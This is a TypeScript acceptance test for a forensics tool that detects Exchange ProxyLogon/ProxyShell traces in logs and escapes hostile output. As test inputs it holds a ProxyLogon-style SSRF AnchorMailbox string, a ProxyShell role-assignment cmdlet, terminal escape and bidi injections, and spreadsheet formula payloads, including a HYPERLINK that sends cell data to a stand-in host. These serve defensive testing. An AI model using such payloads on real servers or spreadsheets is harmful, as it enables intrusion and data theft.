/**
 * Acceptance test of issue 3 ("Done when"), tried as a new user would: `tocsin forensics` and the
 * self-contained bundle on an independent Exchange 2016 tree (test/fixtures/forensics/server2, built
 * from the public descriptions of the log formats, not from the kit's own fixtures) with planted
 * ProxyLogon, ProxyShell, ProxyNotShell and OWASSRF traces, web shells and near-misses.
 * The expected records are kept beside the tree in server2.manifest.json.
 *
 * What the tree exercises: HttpProxy logs of three builds (one in another column order), CRLF line
 * endings, quoted fields with commas, a malformed line in the middle and a torn last line, a .zip of
 * the OABGeneratorLog folder, a gzipped IIS log with a second #Fields block, an Event Viewer CSV with a
 * UTF-8 byte-order mark and multi-line messages, CmdletInfra logs, and web shells next to Microsoft's
 * own pages.
 */
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { parseCsvLine } from '../src/forensics/csv-line.js';

const ROOT = fileURLToPath(new URL('..', import.meta.url));
const TREE_REL = 'test/fixtures/forensics/server2';
const V15 = 'Program Files/Microsoft/Exchange Server/V15';

interface Manifest {
  readonly indicators: readonly { file: string; line: number | null; cve: string | null }[];
  readonly attempts: readonly { file: string; line: number; what: string }[];
  readonly nearMisses: readonly { file: string; line: number; what: string }[];
  readonly notices: readonly { file: string; line: number; what: string }[];
}
const MANIFEST = JSON.parse(readFileSync(join(ROOT, 'test/fixtures/forensics/server2.manifest.json'), 'utf8')) as Manifest;

interface Rec {
  readonly check: string;
  readonly cve: string | null;
  readonly severity: string;
  readonly file: string;
  readonly line: number | null;
  readonly time: string | null;
  readonly clientIp: string | null;
  readonly evidence: string;
}

let tmp = '';
let bundle = '';

before(() => {
  tmp = mkdtempSync(join(tmpdir(), 'tocsin-forensics-independent-'));
  bundle = join(tmp, 'tocsin-forensics.cjs');
  const b = spawnSync(process.execPath, [join(ROOT, 'scripts/build-forensics-bundle.mjs'), bundle], { encoding: 'utf8' });
  assert.equal(b.status, 0, b.stderr);
});
after(() => rmSync(tmp, { recursive: true, force: true }));

type Runner = 'cli' | 'bundle';
const RUNNERS: readonly Runner[] = ['cli', 'bundle'];

/** Runs the kit the way a user would, from the repository root, with relative paths. */
function run(how: Runner, args: readonly string[]): { status: number | null; stdout: string; stderr: string } {
  const argv = how === 'cli' ? ['--import', 'tsx', 'src/bin/tocsin.ts', 'forensics', ...args] : [bundle, ...args];
  const r = spawnSync(process.execPath, argv, { encoding: 'utf8', cwd: ROOT, maxBuffer: 64 * 1024 * 1024 });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

/** The records of JSONL output, after its first line: the `meta` object (version, rules revision, verdict). */
function records(stdout: string): Rec[] {
  const lines = stdout
    .split('\n')
    .filter((l) => l.trim() !== '')
    .map((l) => JSON.parse(l) as Rec | { meta: unknown });
  assert.ok(lines.length > 0 && 'meta' in lines[0]!, 'the first JSONL line is the meta object');
  return lines.slice(1) as Rec[];
}

/** The record's file relative to the tree, with `/` separators whatever the platform. */
function relFile(r: Rec): string {
  const f = r.file.replace(/\\/g, '/');
  assert.ok(f.startsWith(`${TREE_REL}/`), f);
  return f.slice(TREE_REL.length + 1);
}

const key = (file: string, line: number | null, cve: string | null = null): string => `${file} :${line ?? '-'} ${cve ?? '-'}`;

/** (file, line, cve) triples of records, one per CVE of a record, de-duplicated and sorted. */
function triples(rs: readonly Rec[]): string[] {
  const out = new Set<string>();
  for (const r of rs) for (const c of r.cve === null ? [null] : r.cve.split(',')) out.add(key(relFile(r), r.line, c));
  return [...out].sort();
}

for (const how of RUNNERS) {
  test(`${how}: every planted trace is reported with file, line and CVE; no near-miss; exit 1`, () => {
    const r = run(how, [TREE_REL, '--format', 'jsonl', '--no-progress']);
    assert.equal(r.status, 1, r.stderr);
    const recs = records(r.stdout);
    const indicators = recs.filter((x) => x.severity !== 'info');
    const want = [...new Set(MANIFEST.indicators.map((e) => key(e.file, e.line, e.cve)))].sort();
    assert.deepEqual(triples(indicators), want);

    // Attempts (failed exploitation, probes) may be listed, as info only, and only where planted.
    const attempts = [...new Set(recs.filter((x) => x.severity === 'info').map((x) => key(relFile(x), x.line)))].sort();
    assert.deepEqual(attempts, [...new Set(MANIFEST.attempts.map((a) => key(a.file, a.line)))].sort());

    // Near-misses produce no record at all.
    const hit = new Set(recs.map((x) => key(relFile(x), x.line)));
    for (const n of MANIFEST.nearMisses) assert.ok(!hit.has(key(n.file, n.line)), `near-miss reported: ${n.what} (${n.file}:${n.line})`);

    // Torn and malformed lines are reported on stderr with file:line, and the rest of the file is read.
    for (const n of MANIFEST.notices) {
      assert.ok(r.stderr.replace(/\\/g, '/').includes(`${n.file}:${n.line}:`), `notice for ${n.what} missing:\n${r.stderr}`);
    }
    assert.match(r.stderr, /INDICATORS FOUND/);
  });
}

test('the manifest is consistent: planted lines, attempts and near-misses never overlap', () => {
  const planted = new Set(MANIFEST.indicators.map((e) => key(e.file, e.line)));
  for (const n of [...MANIFEST.nearMisses, ...MANIFEST.attempts]) assert.ok(!planted.has(key(n.file, n.line)), n.what);
  // Every campaign of the issue is planted.
  const cves = new Set(MANIFEST.indicators.map((e) => e.cve));
  for (const c of ['CVE-2021-26855', 'CVE-2021-26857', 'CVE-2021-26858', 'CVE-2021-27065', 'CVE-2021-34473', 'CVE-2021-34523',
    'CVE-2021-31207', 'CVE-2022-41040', 'CVE-2022-41080', 'CVE-2022-41082', null]) {
    assert.ok(cves.has(c), String(c));
  }
});

test('a clean tree (only the near-miss files) exits 0 with no records', () => {
  const clean = join(tmp, 'clean');
  for (const rel of [
    `${V15}/Logging/HttpProxy/PowerShell/HttpProxy_2021081012-1.LOG`,
    `${V15}/FrontEnd/HttpProxy/owa/auth/logon.aspx`,
    `${V15}/FrontEnd/HttpProxy/owa/auth/errorFE.aspx`,
    `${V15}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServiceProxy.aspx`,
    `${V15}/FrontEnd/HttpProxy/owa/auth/15.1.2106/themes/resources/logon.css`,
    `${V15}/FrontEnd/HttpProxy/ecp/auth/TimeoutLogout.aspx`,
    'inetpub/wwwroot/aspnet_client/system_web/4_0_30319/WebUIValidation.js',
  ]) {
    cpSync(join(ROOT, TREE_REL, rel), join(clean, rel), { recursive: true });
  }
  for (const how of RUNNERS) {
    const r = run(how, [clean, '--format', 'jsonl']);
    // Logs from August 2021 cannot clear the server of ProxyLogon: the verdict says so, exit code 3.
    assert.equal(r.status, 3, r.stderr);
    assert.deepEqual(records(r.stdout), []);
    assert.match(r.stderr, /INSUFFICIENT LOGS/);
  }
});

test('exit 2 on an unreadable input: a path that does not exist, an archive that is not one', () => {
  const notZip = join(tmp, 'broken.zip');
  writeFileSync(notZip, 'PK\u0003\u0004 this is not really a zip archive');
  for (const how of RUNNERS) {
    const missing = run(how, [join(tmp, 'no-such-folder'), '--format', 'jsonl']);
    assert.equal(missing.status, 2, missing.stderr);
    assert.match(missing.stderr, /not found/);
    const broken = run(how, [notZip, '--format', 'jsonl']);
    assert.equal(broken.status, 2, broken.stderr);
    assert.match(broken.stderr, /ZIP/);
  }
});

test('an HttpProxy excerpt without its header lines: the same traces, and a warning that columns were guessed', () => {
  const rel = `${V15}/Logging/HttpProxy/Ecp/HttpProxy_2021030306-1.LOG`;
  const HEADER_LINES = 5;
  const dir = join(tmp, 'excerpt', 'Logging', 'HttpProxy', 'Ecp');
  mkdirSync(dir, { recursive: true });
  const lines = readFileSync(join(ROOT, TREE_REL, rel), 'utf8').split('\r\n');
  assert.ok(lines[HEADER_LINES - 1]!.startsWith('#Fields:'));
  writeFileSync(join(dir, 'part.LOG'), lines.slice(HEADER_LINES).join('\r\n'));
  const r = run('bundle', [join(tmp, 'excerpt'), '--format', 'jsonl']);
  assert.equal(r.status, 1, r.stderr);
  assert.match(r.stderr, /no #Fields header; AnchorMailbox, URL, status and client address guessed/);
  const recs = records(r.stdout);
  const got = new Set<string>();
  for (const x of recs.filter((y) => y.severity !== 'info')) for (const c of x.cve?.split(',') ?? [null]) got.add(key(rel, x.line! + HEADER_LINES, c));
  assert.deepEqual([...got].sort(), [...new Set(MANIFEST.indicators.filter((e) => e.file === rel).map((e) => key(e.file, e.line, e.cve)))].sort());
  const info = recs.filter((y) => y.severity === 'info').map((y) => key(rel, y.line! + HEADER_LINES)).sort();
  assert.deepEqual(info, MANIFEST.attempts.filter((a) => a.file === rel).map((a) => key(a.file, a.line)).sort());
});

test('--since leaves out earlier records and keeps the later ones', () => {
  const r = run('bundle', [TREE_REL, '--format', 'jsonl', '--since', '2021-08-10T12:14:05Z']);
  assert.equal(r.status, 1, r.stderr);
  const recs = records(r.stdout);
  for (const x of recs) if (x.time !== null) assert.ok(x.time >= '2021-08-10T12:14:05.000Z', `${x.check} ${x.time}`);
  const got = new Set(triples(recs));
  const auto = `${V15}/Logging/HttpProxy/Autodiscover/HttpProxy_2021081012-1.LOG`;
  assert.ok(!got.has(key(auto, 8, 'CVE-2021-34473')), 'the 12:14:02 request is before --since');
  assert.ok(got.has(key(auto, 9, 'CVE-2021-34523')));
  assert.ok(got.has(key('inetpub/logs/LogFiles/W3SVC1/u_ex221001.log.gz', 6, 'CVE-2022-41040')));
  assert.ok(![...got].some((k) => k.includes('CVE-2021-26855') || k.includes('CVE-2021-26857')), 'ProxyLogon records are before --since');
  assert.equal(run('bundle', [TREE_REL, '--since', 'last tuesday']).status, 2);
});

test('--since never hides a compromise: earlier indicators are not listed but keep the verdict and exit 1', () => {
  const r = run('bundle', [TREE_REL, '--format', 'jsonl', '--since', '2030-01-01']);
  assert.equal(r.status, 1, r.stderr);
  assert.equal(records(r.stdout).length, 0, 'nothing dated after --since');
  assert.match(r.stderr, /indicator\(s\) dated before --since .* still count/);
});

test('text report: a verdict, a timeline and what to do, readable by an IT admin; hostile text escaped', () => {
  const dir = join(tmp, 'hostile', 'W3SVC1');
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'u_ex210306.log'),
    '#Software: Microsoft Internet Information Services 10.0\r\n' +
      '#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n' +
      '2021-03-06 01:02:03 10.0.0.5 POST /owa/auth/x\u001b[2J\u001b]0;pwned\u0007.aspx cmd=\u202eexe.dmc 443 - 203.0.113.66 curl/7.1\u001b[31m - 200 0 0 1\r\n',
  );
  const r = run('bundle', [join(tmp, 'hostile')]);
  assert.equal(r.status, 1, r.stderr);
  const out = r.stdout;
  assert.doesNotMatch(out, /[\u0000-\u0008\u000b-\u001f\u007f\u202e]/, 'raw control or bidi characters reach the terminal');
  assert.match(out, /\\x1b\[2J/);
  assert.match(out, /\\u\{202e\}/);
  assert.match(out, /^tocsin forensics: INDICATORS FOUND/);
  assert.match(out, /Timeline by client IP\n {2}203\.0\.113\.66: 1 record/);
  assert.match(out, /What to do\n {2}- Preserve a copy of the file/);

  // JSONL keeps the same text as JSON escapes: the same value, nothing a terminal would act on.
  writeFileSync(
    join(dir, 'u_ex210307.log'),
    '#Fields: date time cs-method cs-uri-stem cs-uri-query c-ip cs(User-Agent) sc-status\r\n' +
      '2021-03-07 01:02:03 GET /aspnet_client/a\u009b31m.aspx - 203.0.113.67 x\u202ey\u2028z 200\r\n',
  );
  const j = run('bundle', [join(tmp, 'hostile'), '--format', 'jsonl']);
  assert.equal(j.status, 1, j.stderr);
  assert.doesNotMatch(j.stdout, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u202e]/);
  const recs = records(j.stdout);
  assert.ok(recs.some((x) => x.evidence.includes('/aspnet_client/a\u009b31m.aspx') && x.evidence.includes('x\u202ey\u2028z')));
});

test('CSV report: cells a spreadsheet would run as a formula are neutralised', () => {
  const dir = join(tmp, 'csvinj');
  mkdirSync(dir, { recursive: true });
  // A free-text log line that begins with a formula and carries a ProxyShell cmdlet.
  writeFileSync(join(dir, 'notes.txt'), `=HYPERLINK("http://x.invalid/?"&A1,"x") New-ManagementRoleAssignment -Role "Mailbox Import Export" -User evil\r\n`);
  const hp = join(dir, 'Logging', 'HttpProxy', 'Ecp');
  mkdirSync(hp, { recursive: true });
  writeFileSync(
    join(hp, 'HttpProxy_2021030307-1.LOG'),
    '#Software: Microsoft Exchange Server\r\n#Log-type: HttpProxy Logs\r\n#Fields: DateTime,ClientIpAddress,UrlStem,AnchorMailbox,HttpStatus,Method\r\n' +
      '2021-03-03T07:00:00.000Z,+cmd|\' /C calc\'!A0,/ecp/y.js,ServerInfo~a]@EXCH01:444/mapi/emsmdb/?#,200,POST\r\n',
  );
  const out = join(tmp, 'report.csv');
  const r = run('bundle', [dir, '--format', 'csv', '--output', out]);
  assert.equal(r.status, 1, r.stderr);
  const rows = readFileSync(out, 'utf8')
    .split('\r\n')
    .filter((l) => l !== '')
    .map((l) => parseCsvLine(l));
  assert.deepEqual(rows[0], ['check', 'cve', 'severity', 'file', 'line', 'time', 'clientIp', 'evidence']);
  assert.ok(rows.length >= 3);
  for (const row of rows) {
    assert.ok(row !== null);
    for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `formula cell: ${cell}`);
  }
  assert.ok(rows.some((row) => row![7]!.startsWith(`'=HYPERLINK`)));
  assert.ok(rows.some((row) => row![6] === `'+cmd|' /C calc'!A0`));
});
